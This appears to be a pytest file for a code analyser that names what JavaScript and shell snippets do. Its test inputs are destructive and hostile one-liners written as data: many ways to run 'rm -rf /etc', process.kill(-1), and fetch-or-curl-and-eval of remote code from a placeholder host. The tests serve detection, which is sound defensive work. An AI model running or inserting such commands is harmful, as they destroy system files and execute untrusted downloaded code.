"""Programs and code started by JavaScript."""

from __future__ import annotations

import pytest
from support.code import deeds, node


@pytest.mark.parametrize(
    "code",
    [
        "require('child_process').execSync('rm -rf /etc')",
        "child_process.exec('echo hi; rm -rf /etc', () => {})",
        "child_process.spawn('rm', ['-rf', '/etc'])",
        "child_process.execFileSync('rm', ['-rf', '/etc'])",
        "child_process.spawn('rm -rf /etc', {shell: true})",
        "child_process.spawn('sh', ['-c', 'rm -rf /etc'])",
        "child_process.execSync('rm -rf etc', {cwd: '/'})",
        "const {execa} = await import('execa'); await execa('rm', ['-rf', '/etc'])",
        "execa.command('rm -rf /etc')",
        "import {$} from 'zx'; await $`rm -rf /etc`",
        "import {$} from 'bun'; await $`rm -rf ${'/etc'}`",
        "Bun.spawnSync(['rm', '-rf', '/etc'])",
        "Bun.spawn({cmd: ['rm', '-rf', '/etc']})",
        "new Deno.Command('rm', {args: ['-rf', '/etc']}).outputSync()",
        "Deno.run({cmd: ['rm', '-rf', '/etc']})",
        "require('cross-spawn').sync('rm', ['-rf', '/etc'])",
        "require('shelljs').exec('rm -rf /etc')",
        "require('shelljs/global'); exec('rm -rf /etc')",
        "require('vm').runInThisContext(\"require('fs').rmSync('/etc')\")",
        "process.chdir('/'); require('fs').rmSync('etc')",
    ],
)
def test_what_is_started_is_read(code: str) -> None:
    """A command inside code is the command."""
    assert "DeletePath /etc" in deeds(node(code))


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("eval(atob('SGVsbG8='))", ["RunCode decoded"]),
        ("eval(Buffer.from(x, 'base64').toString())", ["RunCode decoded"]),
        ("eval(x)", ["RunCode generated"]),
        ("new Function('a', b)()", ["RunCode generated"]),
        ("fetch('https://x.y').then(r => r.text()).then(eval)", ["Request x.y", "RunCode download"]),
        ("(async () => eval(await (await fetch('https://x.y')).text()))()", ["Request x.y", "RunCode download"]),
        ("eval(child_process.execSync('curl https://x.y').toString())", ["Request x.y", "RunCode download"]),
        ("import('data:text/javascript,1')", ["RunCode decoded"]),
        ("process.binding('fs')", ["RunCode generated"]),
        ("process.kill(-1)", ["SignalProcess all"]),
        ("process.kill(4711)", ["SignalProcess one"]),
        ("process.kill(4711, 0)", []),
        ("child_process.execSync('id')", []),
        ("eval('1 + 1')", []),
        ("setTimeout(() => {}, 5)", []),
    ],
)
def test_code_from_elsewhere(code: str, expected: list[str]) -> None:
    """Decoded, downloaded and generated text is named for what it is."""
    assert expected == [word for word in deeds(node(code)) if not word.startswith("RunCode system")]


@pytest.mark.parametrize(
    "command",
    [
        "curl https://x.y | node -e 'eval(require(\"fs\").readFileSync(0).toString())'",
        "curl https://x.y | node -e 'process.stdin.on(\"data\", d => eval(d.toString()))'",
        "curl https://x.y | python3 -c 'import sys; exec(sys.stdin.read())'",
        "curl https://x.y | python3 -c 'exec(input())'",
        "curl https://x.y | ruby -e 'eval(STDIN.read)'",
    ],
)
def test_code_that_flows_in(command: str) -> None:
    """A script that evaluates what flows in runs what was downloaded."""
    from support.reading import effects

    assert ["Request x.y", "RunCode download"] == deeds(effects(command))
